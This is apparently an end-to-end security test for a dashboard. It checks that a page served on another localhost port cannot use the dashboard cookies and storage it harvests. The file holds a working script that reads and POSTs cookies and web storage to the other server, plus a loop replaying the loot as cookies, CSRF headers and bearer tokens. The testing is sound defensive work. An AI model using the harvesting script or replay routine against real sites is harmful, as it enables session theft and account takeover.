"""A dashboard session no other port can use (issue 23): browsers scope cookies by host, not
port, so a page bob serves on another port of 127.0.0.1 gets alice's cookies. Here bob's page is
a plain HTTP server on another loopback port; alice, logged in to the dashboard, opens it in the
same browser. It keeps every header the browser sent it and everything its script can read
(cookies, both storages), and replaying all of it against the API, as bob would from a shell,
is refused: reading her jobs, submitting as her, minting a token, a login link, her session."""

from __future__ import annotations

import http.server
import json
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

from tests.web.rig import Dashboard

pytestmark = pytest.mark.e2e

# Bob's page: sends back whatever this origin's script can see.
_BOBS_PAGE = b"""<!doctype html><html><body><p id="done">looking</p><script>
const seen = {cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage}};
fetch("/loot", {method: "POST", body: JSON.stringify(seen)}).then(() => {
  document.getElementById("done").textContent = "sent";
});
</script></body></html>"""


@dataclass
class Loot:
    """What bob's server received: each request's headers, and what his page's script read."""

    headers: list[dict[str, str]] = field(default_factory=list)
    seen: list[dict[str, Any]] = field(default_factory=list)

    def values(self) -> set[str]:
        """Every value bob holds that could be a credential."""
        found: set[str] = set()
        for headers in self.headers:
            found.update(_cookie_values(headers.get("cookie", "")))
        for seen in self.seen:
            found.update(_cookie_values(seen.get("cookie", "")))
            for store in ("local", "session"):
                found.update(str(v) for v in (seen.get(store) or {}).values())
        return {v for v in found if v}


def _cookie_values(header: str) -> list[str]:
    return [part.partition("=")[2].strip() for part in header.split(";") if "=" in part]


@pytest.fixture
def bobs_page() -> Iterator[tuple[str, Loot]]:
    """A plain HTTP server on another port of 127.0.0.1 (bob's "TensorBoard"): its URL."""
    loot = Loot()

    class Handler(http.server.BaseHTTPRequestHandler):
        def _keep(self) -> None:
            loot.headers.append({k.lower(): v for k, v in self.headers.items()})

        def do_GET(self) -> None:
            self._keep()
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Length", str(len(_BOBS_PAGE)))
            self.end_headers()
            self.wfile.write(_BOBS_PAGE)

        def do_POST(self) -> None:
            self._keep()
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            loot.seen.append(json.loads(body or b"{}"))
            self.send_response(204)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", loot
    finally:
        server.shutdown()
        server.server_close()


def _replays(dashboard: Dashboard, cookie_header: str, values: set[str]) -> list[httpx.Response]:
    """Every request bob can make with what he got: the cookies as his server received them,
    with each value he holds in every header a dashboard or a client sends."""
    calls: list[tuple[str, str, Any]] = [
        ("GET", "/api/v1/whoami", None),
        ("GET", "/api/v1/jobs", None),
        ("POST", "/api/v1/jobs", {"command": ["true"], "workdir": "/"}),
        ("POST", "/api/v1/tokens", {"scope": "submit", "expires": "never"}),
        ("POST", "/api/v1/web/login-link", None),
        ("GET", "/ui/session", None),
    ]
    answers = []
    with httpx.Client(base_url=dashboard.url, timeout=30) as bob:
        for value in [None, *sorted(values)]:
            headers = {"Cookie": cookie_header}
            if value is not None:
                headers.update({"X-CSRF-Token": value, "X-Session-Key": value})
            for method, path, body in calls:
                answers.append(bob.request(method, path, headers=headers, json=body))
                if value is not None:  # the value as a bearer token, too
                    bearer = {"Authorization": f"Bearer {value}"}
                    answers.append(bob.request(method, path, json=body, headers=bearer))
    return answers


def test_a_page_on_another_port_gets_nothing_it_can_use(
    dashboard: Dashboard,
    as_user: Callable[[str], Page],
    bobs_page: tuple[str, Loot],
) -> None:
    url, loot = bobs_page
    alice = as_user("alice")
    expect(alice.locator("#who")).to_contain_text("alice")
    alice.goto(url)  # the same browser, the same host, another port
    expect(alice.locator("#done")).to_have_text("sent")
    assert loot.headers and loot.seen
    cookie_header = "; ".join(h["cookie"] for h in loot.headers if h.get("cookie"))
    assert cookie_header, "the browser sent the dashboard's cookie to the other port"

    before = len(dashboard.client("alice").jobs())
    for answer in _replays(dashboard, cookie_header, loot.values()):
        assert answer.status_code in (401, 403), (answer.request.url, answer.text)
        assert "\n" not in answer.json()["error"]["message"]
    assert len(dashboard.client("alice").jobs()) == before  # nothing was submitted as her

    # Her own dashboard still works: the session was never the cookie alone.
    alice.goto(f"{dashboard.url}/ui/")
    expect(alice.locator("#who")).to_contain_text("alice")
    expect(alice.get_by_role("heading", name="Queue")).to_be_visible()
